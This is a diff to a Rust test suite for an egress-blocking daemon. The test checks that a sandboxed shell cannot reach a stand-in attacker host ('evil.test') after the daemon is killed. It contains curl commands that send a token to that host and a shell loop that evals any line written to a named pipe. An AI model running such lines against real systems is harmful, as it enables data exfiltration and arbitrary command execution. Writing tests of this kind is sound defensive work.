@@ -6,18 +6,18 @@ use lab::{EVIL, Lab, OK, Running, until};
 use nix::sys::signal::Signal;
 use std::{fs, path::PathBuf, time::Duration};
 
-/// A shell that lives as long as its input, whoever else dies.
-const SHELL: &str = "echo up; while read -r line; do eval \"$line\"; echo \"end=$?\"; done";
+/// A shell that takes orders from a pipe in its directory, whoever else dies.
+const SHELL: &str =
+    "mkfifo orders; exec 3<>orders; echo up; while read -r line <&3; do eval \"$line\"; echo \"end=$?\"; done";
 
 /// The exit status of one line of [`SHELL`].
-fn ask(shell: &mut Running, line: &str) -> i32 {
+fn ask(lab: &Lab, shell: &Running, line: &str) -> i32 {
     let before = shell.stdout().matches("end=").count();
-    shell.write(format!("{line}\n").as_bytes());
+    fs::write(lab.work_dir().join("orders"), format!("{line}\n")).unwrap();
     let mut status = None;
     until(SOON, line, || {
         let said = shell.stdout();
-        let last = said.lines().filter_map(|line| line.strip_prefix("end=")).nth(before).and_then(|last| last.parse().ok());
-        status = last;
+        status = said.lines().filter_map(|line| line.strip_prefix("end=")).nth(before).and_then(|last| last.parse().ok());
         status.is_some()
     });
     status.unwrap()
@@ -53,12 +53,12 @@ fn killing_run_opens_nothing() {
     let closed = lab.token("closed");
     let mut run = lab.egressd("run").flags("--allow ok.test").sh(SHELL).spawn();
     run.says("up", SOON);
-    assert_eq!(ask(&mut run, &format!("curl -fsS -m3 http://ok.test/{}", lab.token("learned"))), 0);
+    assert_eq!(ask(&lab, &run, &format!("curl -fsS -m3 http://ok.test/{}", lab.token("learned"))), 0);
     run.signal(Signal::SIGKILL);
     run.wait(SOON);
-    assert_eq!(ask(&mut run, &format!("curl -sS -m3 http://{EVIL}/{closed}")), 7);
-    assert_ne!(ask(&mut run, &format!("curl -sS -m3 http://evil.test/{closed}")), 0);
-    assert_eq!(ask(&mut run, &format!("curl -fsS -m3 http://{OK}/{}", lab.token("permitted"))), 0);
+    assert_eq!(ask(&lab, &run, &format!("curl -sS -m3 http://{EVIL}/{closed}")), 7);
+    assert_ne!(ask(&lab, &run, &format!("curl -sS -m3 http://evil.test/{closed}")), 0);
+    assert_eq!(ask(&lab, &run, &format!("curl -fsS -m3 http://{OK}/{}", lab.token("permitted"))), 0);
     lab.expect_hits(&lab.token("permitted"), 1);
     lab.expect_silence(EVIL);
     assert!(lab.zone().queries_for("evil.test").is_empty());
